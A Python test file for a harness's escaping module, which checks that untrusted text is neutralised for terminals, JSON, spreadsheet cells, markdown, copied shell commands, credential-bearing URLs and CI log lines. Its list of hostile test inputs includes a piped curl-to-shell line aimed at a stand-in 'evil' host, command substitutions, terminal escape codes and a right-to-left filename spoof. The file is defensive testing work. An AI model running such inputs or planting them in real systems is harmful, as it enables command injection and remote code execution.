"""Words of strangers: no command for a terminal, no formula, no second word for a shell."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness import escaping
from harness.views import components

ANY = st.text(st.characters(codec=None), max_size=40)
HOSTILE = (
    "\x1b]0;owned\x07",
    "\x9b31m",
    "\u202egnp.exe",
    "a\rb",
    "\ud800",
    "x; curl evil|sh #",
    "$(touch /tmp/x)",
    "`id`",
    "it's",
    "--store=/",
    "-",
    "",
    "a\nb",
)


def obeyed(text: str) -> set[str]:
    """Return the signs of a text that a terminal may take for more than a letter."""
    kinds = ("Cc", "Cs", "Zl", "Zp")
    turns = ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
    return {
        sign
        for sign in text
        if sign not in "\n\t"
        and (unicodedata.category(sign) in kinds or unicodedata.bidirectional(sign) in turns)
    }


@given(ANY)
@settings(max_examples=100)
def test_nothing_that_a_terminal_obeys_is_left(text: str) -> None:
    shown = escaping.printable(text)
    assert obeyed(shown) == set()
    shown.encode()
    assert shown == text or obeyed(text) or set(text) & set("\u061c\u200e\u200f")
    assert "\n" not in escaping.one_line(text)


@pytest.mark.parametrize("text", ["Ünïcode ✓ 忍者", "tab\tand\nline", "👩‍🎨", "a [b] c"])
def test_honest_words_stay_as_they_are(text: str) -> None:
    assert escaping.printable(text) == text


@given(ANY)
@settings(max_examples=100)
def test_json_means_the_same_without_such_signs(text: str) -> None:
    written = escaping.json_text(json.dumps({"a": text}, ensure_ascii=False, indent=1))
    assert json.loads(written) == {"a": text}
    assert obeyed(written) == set()


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@x", "＝1", "＋1", "－1", "＠x", "\t=1", "\r=1", "  =1", "\u3000=1"],
)
def test_a_cell_is_no_formula(cell: str) -> None:
    assert escaping.in_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["ink", "", "a=b", "12", "忍者", "'quoted'"])
def test_an_honest_cell_stays_as_it_is(cell: str) -> None:
    assert escaping.in_cell(cell) == cell


@pytest.mark.parametrize(
    ("words", "written"),
    [
        ("a|b", "a\\|b"),
        ("a\nb", "a b"),
        ("`x`", "\\`x\\`"),
        ("<img src=x>", "&lt;img src=x&gt;"),
        ("[x](http://x)", "\\[x\\](http://x)"),
        ("![x](y)", "\\!\\[x\\](y)"),
        ("- item", "\\- item"),
        ("1. item", "1\\. item"),
        ("pocket-ninja", "pocket-ninja"),
        ("\x1b[31m", "\\\\x1b\\[31m"),
    ],
)
def test_words_in_markdown_are_only_words(words: str, written: str) -> None:
    assert escaping.in_markdown(words) == written


@given(st.lists(ANY, min_size=1, max_size=3))
@settings(max_examples=60)
def test_a_command_to_copy_has_as_many_words_as_it_was_given(words: list[str]) -> None:
    found = shlex.split(escaping.command("run", *words))
    assert found[:2] == ["harness", "run"]
    assert [each for each in found[2:] if each != "--"] == [
        escaping.printable(word) for word in words if word != "--"
    ]


def test_a_word_that_looks_like_an_option_is_none() -> None:
    said = escaping.command("run", "--store=/", options=["-b", "pocket-v1"])
    assert said == "harness run -b pocket-v1 -- --store=/"


@pytest.mark.skipif(shutil.which("node") is None, reason="needs node")
def test_scripts_write_the_same_commands() -> None:
    program = f"{components.source('shared')}\nfor (const word of {json.dumps(HOSTILE)})"
    program += '\n  console.log(JSON.stringify(command("compare", word, "b c")));'
    done = subprocess.run(["node", "-e", program], capture_output=True, text=True, check=True)
    written = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(written) == len(HOSTILE)
    assert written == [escaping.command("compare", word, "b c") for word in HOSTILE]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ftp://user:pw@host/x", "ftp://…@host/x"),
        ("ftp://user:p@w@host/x", "ftp://…@host/x"),
        ("ftp://user:p/w@host/x", "ftp://…@host/x"),
        ("https://user:p?w@host/x", "https://…@host/x"),
        ("https://token@host/x", "https://…@host/x"),
        ("cache::ftp://user:pw@host", "cache::ftp://…@host"),
        ("no https://h/x?sig=pw&a=b here", "no https://h/x?… here"),
        ("'ftp://u:pw@h' and ftp://v:pw@i", "'ftp://…@h' and ftp://…@i"),
    ],
)
def test_an_address_says_no_password(text: str, shown: str) -> None:
    assert escaping.without_secrets(text) == shown


@pytest.mark.parametrize(
    "text",
    ["s3://bucket/@v1/x", "http://host:8080/a@b", "http://[::1]:80/a@b", "../backup", "me@host"],
)
def test_an_address_without_a_password_stays_as_it_is(text: str) -> None:
    assert escaping.without_secrets(text) == text


def test_no_line_of_a_sentence_is_a_command_to_a_ci_job_however_it_is_wrapped() -> None:
    assert escaping.one_line("a ::error::b") == "a : :error: :b"
    assert escaping.one_line("a :: 2::3") == "a :: 2::3"
